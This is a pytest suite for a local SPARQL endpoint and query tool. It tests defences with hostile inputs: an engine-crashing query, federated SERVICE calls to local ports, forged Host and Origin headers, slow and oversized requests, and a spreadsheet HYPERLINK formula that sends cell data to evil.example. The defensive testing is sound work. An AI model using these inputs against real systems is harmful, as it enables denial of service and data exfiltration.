"""The endpoint and kg query under hostile or careless use (issue 17: findings 1–4, 8 is in
test_store_push.py, and the query/serve/push parts of 13 and 14).  Every request loop here is bounded in
count and time and talks only to 127.0.0.1."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

from conftest import ROOT
from kg.cli import app
from kg.store.engine import Engine, EngineError, collect, run_sync
from kg.store.query import QueryResult, format_result, run_remote, uses_service
from kg.store.serve import Limits, ServeError, free_port, serve_store, start, stop

#: ORDER BY over numbers and strings mixed: Oxigraph 0.5.13 panics ("comparison function does not
#: correctly implement a total order") and aborts its process.
CRASH = ('SELECT ?o WHERE { VALUES ?o { 77.4 26 92 40 "79" "70" "95" "26" 55 6.3 8 "57" "70" 56 "58" 43 62 82 '
         '"73" 88 17.9 } } ORDER BY ?o')
#: The query of the issue (on the seeds store of then).
ISSUE_QUERY = "SELECT ?o WHERE { ?s ?p ?o } ORDER BY DESC(?o) LIMIT 5"
CARTESIAN = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f }"
COUNT_UNIONS = "SELECT (COUNT(DISTINCT ?u) AS ?n) WHERE { ?u a ukg:UnionBody }"
runner = CliRunner()


@pytest.fixture(scope="module")
def unions(seeds_build) -> str:
    from kg.store.query import open_store, run_query

    return run_query(open_store(seeds_build[1] / "store"), COUNT_UNIONS).rows[0][0]


def one_line_error(result) -> str:
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    return lines[0]


class Listener:
    """A TCP listener on 127.0.0.1 that counts connections and never answers (a stand-in for another
    local service, or a SPARQL endpoint that hangs)."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.accepted: list[socket.socket] = []
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        deadline = time.monotonic() + 120
        while not self.done.is_set() and time.monotonic() < deadline:
            try:
                self.accepted.append(self.socket.accept()[0])
            except OSError:
                continue

    def close(self) -> None:
        self.done.set()
        self.thread.join(5)
        for connection in self.accepted:
            connection.close()
        self.socket.close()


@pytest.fixture()
def listener():
    listening = Listener()
    yield listening
    listening.close()


def raw(port: int, data: bytes, *, read: bool = True, timeout: float = 10) -> bytes:
    """Send bytes on a new connection and read the answer until the server closes it."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(data)
        answer = b""
        while read:
            try:
                piece = sock.recv(65536)
            except (ConnectionResetError, TimeoutError):
                break
            if not piece:
                break
            answer += piece
        return answer


# --- 1. a query that crashes the engine ---------------------------------------------------------

def test_a_query_that_crashes_the_engine_gets_a_one_line_500_and_every_other_query_is_answered(seeds_build, unions) -> None:
    _, out = seeds_build
    with serve_store(store=out / "store", port=free_port(), limits=Limits(workers=2)) as server:
        def ask(query: str) -> httpx.Response:
            return httpx.post(server.endpoint, data={"query": query}, headers={"Accept": "text/csv"}, timeout=60)

        queries = [CRASH if i % 3 == 0 else COUNT_UNIONS for i in range(18)]
        with ThreadPoolExecutor(6) as pool:
            answers = list(pool.map(ask, queries))
        for query, answer in zip(queries, answers):
            if query == CRASH:
                assert answer.status_code == 500
                text = answer.text.strip()
                assert "\n" not in text and "crashed" in text and "likely cause: ORDER BY over values of mixed kinds" in text
            else:
                assert answer.status_code == 200 and answer.text.split() == ["n", unions], answer.text
        assert server.restarts == 6
        deadline = time.monotonic() + 20
        while len(server.engine_pids()) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        assert len(server.engine_pids()) == 2
        assert ask(COUNT_UNIONS).text.split() == ["n", unions]


def test_kg_query_turns_an_engine_crash_into_one_line_naming_the_likely_cause(seeds_build, seeds_server) -> None:
    store = str(seeds_build[1] / "store")
    for args in (["--store", store], ["--endpoint", seeds_server.endpoint]):
        line = one_line_error(runner.invoke(app, ["query", CRASH, *args]))
        assert "crashed" in line and "likely cause: ORDER BY" in line, line
    # with a parameter, the query is checked as written first: that check must not crash the client either
    line = one_line_error(runner.invoke(app, ["query", CRASH, "--store", store, "--param", "o=1"]))
    assert "likely cause: ORDER BY" in line
    result = runner.invoke(app, ["query", ISSUE_QUERY, "--store", store])
    assert result.exit_code == 0 or "likely cause" in one_line_error(result)


def test_a_real_crash_of_kg_query_in_a_subprocess_exits_1_not_134(seeds_build) -> None:
    run = subprocess.run([sys.executable, "-m", "kg", "query", CRASH, "--store", str(seeds_build[1] / "store")],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert run.returncode == 1, run.stderr
    assert len(run.stderr.strip().splitlines()) == 1 and "likely cause" in run.stderr


# --- 2. federated queries, Host and Origin ------------------------------------------------------

SERVICE_QUERIES = [
    "SELECT * WHERE { SERVICE <http://127.0.0.1:{port}/sparql> { ?s ?p ?o } }",
    "select * { service silent <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
    "SELECT * WHERE { ?x ?y ?z . { SELECT * WHERE { SeRvIcE <http://localhost:{port}/q> { ?s ?p ?o } } } }",
    "PREFIX e: <http://127.0.0.1:{port}/>\nSELECT * WHERE { # a comment\n SERVICE e:sparql { ?s ?p ?o } }",
    "SELECT * WHERE { BIND(<http://127.0.0.1:{port}/> AS ?e) SERVICE ?e { ?s ?p ?o } }",
]


@pytest.mark.parametrize("template", SERVICE_QUERIES)
def test_service_is_refused_before_any_engine_sees_the_query(seeds_server, listener, template) -> None:
    query = template.replace("{port}", str(listener.port))
    assert uses_service(query)
    response = httpx.post(seeds_server.endpoint, data={"query": query}, timeout=30)
    assert response.status_code == 403 and "SERVICE" in response.text
    response = httpx.get(seeds_server.endpoint, params={"query": query}, timeout=30)
    assert response.status_code == 403
    time.sleep(0.2)
    assert listener.accepted == []


def test_the_word_service_elsewhere_is_not_a_federated_query(seeds_server) -> None:
    query = 'SELECT ?l WHERE { ?u rdfs:label ?l FILTER(CONTAINS(?l, "SERVICE")) } # SERVICE <http://x/>'
    assert not uses_service(query)
    assert httpx.post(seeds_server.endpoint, data={"query": query}, timeout=30).status_code == 200


def _namespaces_available() -> bool:
    code = "import ctypes,sys; libc=ctypes.CDLL(None); sys.exit(0 if libc.unshare(0x40000000)==0 or libc.unshare(0x50000000)==0 else 1)"
    return sys.platform == "linux" and subprocess.run([sys.executable, "-c", code]).returncode == 0


@pytest.mark.skipif(not _namespaces_available(), reason="this system lets no process have a network namespace of its own")
def test_an_engine_process_has_no_network_so_a_service_call_that_slipped_through_goes_nowhere(listener) -> None:
    query = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port}/sparql> {{ ?s ?p ?o }} }}"

    async def go():
        engine = await Engine("-", network=False).start()
        try:
            return await collect(engine, {"query": query}, timeout_s=20, max_bytes=10_000)
        finally:
            await engine.close()

    with pytest.raises(EngineError, match="unreachable|refused|network|connect"):
        run_sync(go)
    time.sleep(0.2)
    assert listener.accepted == []


def test_allowed_service_calls_are_still_stopped_by_the_time_out(seeds_build, listener) -> None:
    _, out = seeds_build
    query = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port}/sparql> {{ ?s ?p ?o }} }}"
    with serve_store(store=out / "store", port=free_port(), limits=Limits(timeout_s=2, allow_service=True, workers=1)) as server:
        started = time.monotonic()
        response = httpx.post(server.endpoint, data={"query": query}, timeout=30)
        assert response.status_code == 504 and "did not finish within 2 s" in response.text
        assert time.monotonic() - started < 8
        assert len(listener.accepted) == 1  # the opt-in works: the call was made, and it was cut off
        assert httpx.post(server.endpoint, data={"query": "ASK {}"}, timeout=30).status_code == 200


def test_the_host_header_and_the_origin_are_checked(seeds_server) -> None:
    query = {"query": "ASK {}"}
    port = seeds_server.port
    for host in ("evil.example", f"evil.example:{port}", f"127.0.0.1.nip.io:{port}", f"localhost:{port + 1}"):
        response = httpx.post(seeds_server.endpoint, data=query, headers={"Host": host}, timeout=30)
        assert response.status_code == 421, host
    assert httpx.get(seeds_server.url, headers={"Host": "rebound.example"}, timeout=30).status_code == 421
    for host in (f"localhost:{port}", f"127.0.0.1:{port}"):
        assert httpx.post(seeds_server.endpoint, data=query, headers={"Host": host}, timeout=30).status_code == 200
    # a web page elsewhere that posts a form to the endpoint (cross-site), and the query page's own requests
    cross = httpx.post(seeds_server.endpoint, data=query, headers={"Origin": "http://evil.example"}, timeout=30)
    assert cross.status_code == 403 and "cross-site" in cross.text
    assert httpx.post(seeds_server.endpoint, data=query, headers={"Origin": "null"}, timeout=30).status_code == 403
    same = httpx.post(seeds_server.endpoint, data=query, headers={"Origin": f"http://127.0.0.1:{port}"}, timeout=30)
    assert same.status_code == 200


def test_an_allowed_host_for_a_reverse_proxy(seeds_build) -> None:
    with serve_store(store=seeds_build[1] / "store", port=free_port(), limits=Limits(allow_hosts=("kg.example.org",))) as server:
        response = httpx.post(server.endpoint, data={"query": "ASK {}"}, headers={"Host": "kg.example.org"}, timeout=30)
        assert response.status_code == 200


# --- 3. time-outs that bound the work, request limits, half-open connections -------------------

@pytest.mark.parametrize("accept", ["text/csv", "application/sparql-results+json"])
def test_the_time_out_bounds_a_streaming_answer_and_never_ends_it_as_if_whole(seeds_build, accept) -> None:
    _, out = seeds_build
    limits = Limits(timeout_s=2, workers=1, stream_buffer_bytes=256 * 1024)
    with serve_store(store=out / "store", port=free_port(), limits=limits) as server:
        engine = server.engine_pids()
        started, received, cut, status = time.monotonic(), 0, False, None
        try:
            with httpx.stream("POST", server.endpoint, data={"query": CARTESIAN}, headers={"Accept": accept}, timeout=30) as response:
                status = response.status_code
                assert status in (200, 504)
                for chunk in response.iter_bytes():
                    received += len(chunk)
                    assert b"cancelled" not in chunk
        except httpx.RemoteProtocolError as error:
            cut = "incomplete" in str(error) or "without sending complete" in str(error)
        elapsed = time.monotonic() - started
        # On a loaded machine the time-out can come before the first row: then it is an HTTP 504.
        assert cut or status == 504, "the answer of a query that timed out must not end as a complete one"
        assert elapsed < 2 + 10, elapsed  # bounded by the time-out (slack for a loaded machine)
        deadline = time.monotonic() + 30  # the engine is replaced in the background (slack for a loaded machine)
        while (server.engine_pids() in ([], engine) or _alive(engine[0])) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert server.engine_pids() not in ([], engine) and not _alive(engine[0])  # the work stopped
        assert httpx.post(server.endpoint, data={"query": "ASK {}"}, timeout=30).status_code == 200


def test_a_time_out_before_the_answer_starts_is_http_504_and_kg_query_says_so(seeds_build) -> None:
    _, out = seeds_build
    with serve_store(store=out / "store", port=free_port(), limits=Limits(timeout_s=1)) as server:
        response = httpx.post(server.endpoint, data={"query": f"SELECT (COUNT(*) AS ?n) WHERE {{ {CARTESIAN[17:-2]} }}"}, timeout=30)
        assert response.status_code == 504 and response.text.count("\n") == 1
        line = one_line_error(runner.invoke(app, ["query", "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f }",
                                                  "--endpoint", server.endpoint]))
        assert "HTTP 504" in line


def test_an_answer_over_the_size_limit_is_http_422(seeds_build) -> None:
    _, out = seeds_build
    with serve_store(store=out / "store", port=free_port(), limits=Limits(max_result_bytes=100_000)) as server:
        response = httpx.post(server.endpoint, data={"query": "SELECT * WHERE { ?s ?p ?o }"}, timeout=30)
        assert response.status_code == 422 and "larger than" in response.text
        assert httpx.post(server.endpoint, data={"query": "SELECT * WHERE { ?s ?p ?o } LIMIT 10"}, timeout=30).status_code == 200


def test_a_query_over_the_memory_limit_is_stopped_with_http_507(seeds_build) -> None:
    _, out = seeds_build
    with serve_store(store=out / "store", port=free_port(), limits=Limits(max_memory_bytes=200 * 1024 * 1024)) as server:
        response = httpx.post(server.endpoint, data={"query": CARTESIAN + " ORDER BY ?c ?f"}, timeout=60)
        assert response.status_code == 507 and "more than 200 MB of memory" in response.text
        assert httpx.post(server.endpoint, data={"query": "ASK {}"}, timeout=30).status_code == 200


def test_request_body_and_header_limits(seeds_build) -> None:
    _, out = seeds_build
    limits = Limits(max_request_bytes=64 * 1024, max_header_bytes=8 * 1024)
    with serve_store(store=out / "store", port=free_port(), limits=limits) as server:
        host = f"Host: 127.0.0.1:{server.port}\r\n".encode()
        # a 120 MB body is refused from its Content-Length, before it is read
        started = time.monotonic()
        answer = raw(server.port, b"POST /query HTTP/1.1\r\n" + host + b"Content-Type: application/sparql-query\r\n"
                     b"Content-Length: 125829120\r\n\r\nSELECT")
        assert answer.startswith(b"HTTP/1.1 413") and time.monotonic() - started < 5
        # a chunked body without a length is cut off at the limit
        big = "SELECT * WHERE { ?s ?p ?o } #" + "x" * 200_000
        response = httpx.post(server.endpoint, content=(big[i:i + 10_000].encode() for i in range(0, len(big), 10_000)),
                              headers={"Content-Type": "application/sparql-query"}, timeout=30)
        assert response.status_code == 413
        answer = raw(server.port, b"GET /query?query=ASK%7B%7D HTTP/1.1\r\n" + host + b"X-Big: " + b"a" * 20_000 + b"\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 431")
        assert httpx.post(server.endpoint, data={"query": "ASK {}"}, timeout=30).status_code == 200


def test_half_sent_requests_do_not_lock_out_other_clients(seeds_build, unions) -> None:
    _, out = seeds_build
    limits = Limits(max_connections=32, request_timeout_s=60)
    with serve_store(store=out / "store", port=free_port(), limits=limits) as server:
        partial = (f"POST /query HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                   "Content-Length: 1000\r\n\r\nquery=SEL").encode()
        held = []
        try:
            for _ in range(260):
                sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
                sock.sendall(partial)
                held.append(sock)
            started = time.monotonic()
            response = httpx.post(server.endpoint, data={"query": COUNT_UNIONS}, headers={"Accept": "text/csv"}, timeout=30)
            assert response.status_code == 200 and response.text.split() == ["n", unions]
            assert time.monotonic() - started < 10
            assert len(server._endpoint.connections) <= 32
        finally:
            for sock in held:
                sock.close()


def test_an_idle_or_slow_request_is_dropped_after_the_request_time_out(seeds_build) -> None:
    _, out = seeds_build
    with serve_store(store=out / "store", port=free_port(), limits=Limits(request_timeout_s=1)) as server:
        started = time.monotonic()
        answer = raw(server.port, b"GET /query?query=ASK%7B%7D HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # never ends its head
        assert answer.startswith(b"HTTP/1.1 408") and time.monotonic() - started < 5


class _Trickle(threading.Thread):
    """A fake SPARQL endpoint on 127.0.0.1: answers 200 and then sends its body slowly (``delay``
    between bytes) or as fast as it can, for at most ``limit_s`` seconds or ``limit_bytes``."""

    def __init__(self, *, delay: float, limit_s: float = 30, limit_bytes: int = 50_000_000) -> None:
        super().__init__(daemon=True)
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(4)
        self.server.settimeout(limit_s)
        self.port = self.server.getsockname()[1]
        self.delay, self.limit_s, self.limit_bytes = delay, limit_s, limit_bytes
        self.start()

    def run(self) -> None:
        try:
            connection, _ = self.server.accept()
        except OSError:
            return
        with connection:
            connection.settimeout(self.limit_s)
            try:
                connection.recv(65536)
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n"
                                   b"Transfer-Encoding: chunked\r\n\r\n")
                deadline, sent = time.monotonic() + self.limit_s, 0
                piece = b" " if self.delay else b" " * 65536
                while time.monotonic() < deadline and sent < self.limit_bytes:
                    connection.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
                    sent += len(piece)
                    if self.delay:
                        time.sleep(self.delay)
            except OSError:
                pass
        self.server.close()


def test_kg_query_endpoint_has_a_total_time_out_and_a_size_cap() -> None:
    slow = _Trickle(delay=0.2)
    started = time.monotonic()
    line = one_line_error(runner.invoke(app, ["query", "ASK {}", "--endpoint", f"http://127.0.0.1:{slow.port}/query", "--timeout", "2"]))
    assert "no complete answer within" in line and time.monotonic() - started < 8
    fast = _Trickle(delay=0)
    line = one_line_error(runner.invoke(app, ["query", "ASK {}", "--endpoint", f"http://127.0.0.1:{fast.port}/query", "--max-result-mb", "1"]))
    assert "larger than 1 MB" in line


def test_kg_query_local_has_a_total_time_out_and_a_size_cap(seeds_build) -> None:
    store = str(seeds_build[1] / "store")
    started = time.monotonic()
    line = one_line_error(runner.invoke(app, ["query", "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f }", "--store", store, "--timeout", "1"]))
    assert "did not finish within 1 s" in line and time.monotonic() - started < 8
    line = one_line_error(runner.invoke(app, ["query", "SELECT * WHERE { ?s ?p ?o }", "--store", store, "--max-result-mb", "0.1"]))
    assert "larger than 0.1 MB" in line
    assert runner.invoke(app, ["query", "SELECT * WHERE { ?s ?p ?o } LIMIT 3", "--store", store, "--max-result-mb", "0.1"]).exit_code == 0


def test_the_answer_of_an_endpoint_cut_off_mid_way_is_one_line(seeds_build) -> None:
    _, out = seeds_build
    limits = Limits(timeout_s=1, stream_buffer_bytes=64 * 1024)
    with serve_store(store=out / "store", port=free_port(), limits=limits) as server:
        with pytest.raises(Exception, match="cut off|HTTP 504"):
            run_remote(server.endpoint, CARTESIAN, timeout=30, max_bytes=10**10)


# --- 4. read-only stores, options, restarting on the same port ----------------------------------

def test_a_store_on_a_read_only_file_system_is_served_in_place(seeds_build, tmp_path, monkeypatch) -> None:
    import errno

    import kg.store.serve

    store = tmp_path / "store"
    shutil.copytree(seeds_build[1] / "store", store)

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr(kg.store.serve.tempfile, "mkdtemp", read_only)
    notes: list[str] = []
    with serve_store(store=store, port=free_port(), log=notes.append) as server:
        assert server.in_place and server.location == store
        assert run_remote(server.endpoint, 'ASK { ?u rdfs:label "滨海县总工会"@zh }').boolean is True
    assert notes and "in place" in notes[0]
    assert store.is_dir()  # never deleted


def _can_mount_read_only(tmp_path: Path) -> bool:
    if shutil.which("unshare") is None:
        return False
    probe = tmp_path / "probe"
    probe.mkdir()
    run = subprocess.run(["unshare", "-m", "sh", "-c", f"mount --bind -o ro {probe} {probe} && ! touch {probe}/x 2>/dev/null"],
                         capture_output=True)
    return run.returncode == 0


def test_kg_serve_on_a_really_read_only_file_system(seeds_build, tmp_path) -> None:
    if not _can_mount_read_only(tmp_path):
        pytest.skip("cannot mount a read-only file system here (needs unshare and mount rights)")
    folder = tmp_path / "ro"
    folder.mkdir()
    shutil.copytree(seeds_build[1] / "store", folder / "store")
    script = f"mount --bind -o ro {folder} {folder} && exec {sys.executable} -m kg serve --store {folder / 'store'} --port 0 --timeout 10"
    process = subprocess.Popen(["unshare", "-m", "sh", "-c", script], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        process.stdout.readline()
        endpoint = process.stdout.readline().split()[-1]
        assert run_remote(endpoint, 'ASK { ?u rdfs:label "滨海县总工会"@zh }').boolean is True
    finally:
        process.send_signal(signal.SIGTERM)
        _, stderr = process.communicate(timeout=30)
    assert process.returncode == 0, stderr
    assert "Traceback" not in stderr and "serving the store in place" in stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--port", "70000"], "--port must be between 0 and 65535, not 70000"),
        (["--port", "-1"], "--port must be between 0 and 65535, not -1"),
        (["--timeout", "0"], "--timeout must be between 1 and 86400 seconds, not 0"),
        (["--timeout", "-5"], "--timeout must be between 1 and 86400 seconds, not -5"),
        (["--workers", "0"], "--workers must be at least 1, not 0"),
        (["--max-result-mb", "0"], "--max-result-mb must be at least 1, not 0"),
    ],
)
def test_serve_options_out_of_range_are_one_line_errors(seeds_build, args, message) -> None:
    line = one_line_error(runner.invoke(app, ["serve", "--store", str(seeds_build[1] / "store"), *args]))
    assert line == f"error: {message}"


def _time_wait_on(port: int) -> None:
    """Leave a connection of the listening port ``port`` in TIME_WAIT (the server side closed first)."""
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("127.0.0.1", port))
        server.listen(1)
        client = socket.create_connection(("127.0.0.1", port))
        accepted, _ = server.accept()
        accepted.close()  # the server closes first: its end goes to TIME_WAIT
        time.sleep(0.05)
        client.close()


def test_a_port_in_time_wait_after_a_client_or_a_crash_is_usable_at_once(seeds_build, tmp_path) -> None:
    port = free_port()
    _time_wait_on(port)
    with serve_store(store=seeds_build[1] / "store", port=port) as server:
        assert server.port == port
        # a client that asks the server to close: the server's end of it stays in TIME_WAIT
        response = httpx.post(server.endpoint, data={"query": "ASK {}"}, headers={"Connection": "close"}, timeout=30)
        assert response.status_code == 200
    with serve_store(store=seeds_build[1] / "store", port=port) as server:  # restarted at once on the same port
        assert httpx.post(server.endpoint, data={"query": "ASK {}"}, timeout=30).status_code == 200
    _time_wait_on(port)
    oxigraph = start(location=tmp_path / "db", port=port, read_only=False)  # the Oxigraph server's pre-bind probe too
    stop(oxigraph)


def test_a_port_in_use_is_still_a_clear_error(seeds_server, seeds_build) -> None:
    with pytest.raises(ServeError, match=f"cannot listen on 127.0.0.1:{seeds_server.port}"):
        with serve_store(store=seeds_build[1] / "store", port=seeds_server.port):
            pass


def _children(pid: int) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                stat = (proc / "stat").read_text().rsplit(") ", 1)[1].split()
            except (OSError, IndexError):
                continue
            if int(stat[1]) == pid and stat[0] != "Z":
                found.append(int(proc.name))
    return found


@pytest.mark.skipif(sys.platform != "linux", reason="parent-death signal and /proc are Linux's")
def test_a_killed_kg_serve_leaves_no_engine_process_behind(seeds_build, tmp_path) -> None:
    store = tmp_path / "store"
    shutil.copytree(seeds_build[1] / "store", store)
    process = subprocess.Popen([sys.executable, "-m", "kg", "serve", "--store", str(store), "--port", "0", "--workers", "2"],
                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        process.stdout.readline()
        endpoint = process.stdout.readline().split()[-1]
        assert httpx.post(endpoint, data={"query": "ASK {}"}, timeout=30).status_code == 200
        engines = _children(process.pid)
        assert len(engines) == 2
    finally:
        process.kill()
        process.wait()
    deadline = time.monotonic() + 10
    while any(map(_alive, engines)) and time.monotonic() < deadline:
        time.sleep(0.1)
    left = [pid for pid in engines if _alive(pid)]
    assert left == [], f"engine processes {left} outlived kg serve"


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(") ", 1)[1][:1] not in ("Z", "X")
    except (OSError, IndexError):
        return False


# --- 13. odd arguments: one line, never a traceback ---------------------------------------------

LONG = "长" * 100  # 300 bytes: longer than a file name may be


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["query", "ASK {}", "--store", f"/tmp/{LONG}/store"], "File name too long"),
        (["query", "ASK {}", "--store", "x" * 300], "File name too long"),
        (["serve", "--store", f"/tmp/{LONG}/store"], "File name too long"),
        (["push", "http://127.0.0.1:1/store", "--from", f"/tmp/{LONG}"], "File name too long"),
        (["query", f"{LONG}.rq"], "cannot read query: File name too long"),
        (["query", "SELECT * WHERE { ?s ?p \udcff }", "--store", "{store}"], "the query has bytes that are not UTF-8"),
        (["query", "ASK {}", "--store", "/tmp/\udcff/store"], "/tmp/\\xff/store: not an Oxigraph store"),
        (["query", "ASK {}", "-p", "x=\udcfe", "--store", "{store}"], "has bytes that are not UTF-8"),
        (["query", "ASK {}", "--endpoint", "127.0.0.1:7878/query"], "is not an http(s) URL"),
        (["query", "ASK {}", "--endpoint", "http//127.0.0.1:7878/query"], "is not an http(s) URL"),
        (["query", "ASK {}", "--endpoint", "ftp://127.0.0.1/query"], "is not an http(s) URL"),
        (["query", "ASK {}", "--endpoint", "http://[::1/query"], "is not an http(s) URL"),
        (["query", "ASK {}", "--endpoint", "http://"], "is not an http(s) URL"),
        (["push", "http//127.0.0.1:7878/store", "--from", "{out}"], "is not an http(s) URL"),
        (["push", "http://[::1/store", "--from", "{out}"], "is not an http(s) URL"),
    ],
)
def test_odd_arguments_are_one_line_errors(seeds_build, args, message) -> None:
    out = seeds_build[1]
    args = [a.replace("{store}", str(out / "store")).replace("{out}", str(out)) for a in args]
    line = one_line_error(runner.invoke(app, args))
    assert message in line, line


def test_an_inline_query_of_90_chinese_characters_is_a_query_not_a_file_name(seeds_build) -> None:
    label = "上海市总工会" * 15  # 90 characters, 270 bytes
    query = f'SELECT ?u WHERE {{ ?u rdfs:label "{label}"@zh }}'
    result = runner.invoke(app, ["query", query, "--store", str(seeds_build[1] / "store"), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "u"


def test_bytes_that_are_not_utf8_in_real_arguments(seeds_build) -> None:
    store = str(seeds_build[1] / "store").encode()
    for args, message in [([b"query", b"SELECT * WHERE { ?s ?p \xff }", b"--store", store], "not UTF-8"),
                          ([b"query", b"ASK {}", b"--store", b"/tmp/\xff\xfe/store"], "\\xff\\xfe")]:
        run = subprocess.run([sys.executable.encode(), b"-m", b"kg", *args], cwd=ROOT, capture_output=True, timeout=120)
        stderr = run.stderr.decode("utf-8")
        assert run.returncode == 1 and len(stderr.strip().splitlines()) == 1 and message in stderr, stderr


# --- 14. CSV that a spreadsheet would run -------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path) -> None:
    values = ['=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")', "+1+1", "@SUM(A1:A9)", "-2+3", "\t=1", "-5", "3.5e2",
              "普通文字", "a=b"]
    result = QueryResult(variables=("v",), rows=[(v,) for v in values])
    import csv
    import io

    cells = [row[0] for row in csv.reader(io.StringIO(format_result(result, fmt="csv")))][1:]
    assert cells == ["'" + values[0], "'+1+1", "'@SUM(A1:A9)", "'-2+3", "'\t=1", "-5", "3.5e2", "普通文字", "a=b"]
    # kg query --format csv, on a store that holds such a label
    store = ox.Store(str(tmp_path / "store"))
    store.add(ox.Quad(ox.NamedNode("urn:x:u"), ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label"),
                      ox.Literal(values[0], language="zh"), ox.NamedNode("urn:x:g")))
    store.flush()
    del store
    result = runner.invoke(app, ["query", "SELECT ?l WHERE { ?u rdfs:label ?l }", "--store", str(tmp_path / "store"), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.stdout)))[1] == ["'" + values[0]]
    # JSON and TSV keep the value as it is
    result = runner.invoke(app, ["query", "SELECT ?l WHERE { ?u rdfs:label ?l }", "--store", str(tmp_path / "store"), "--format", "json"])
    assert json.loads(result.stdout) == [{"l": values[0]}]
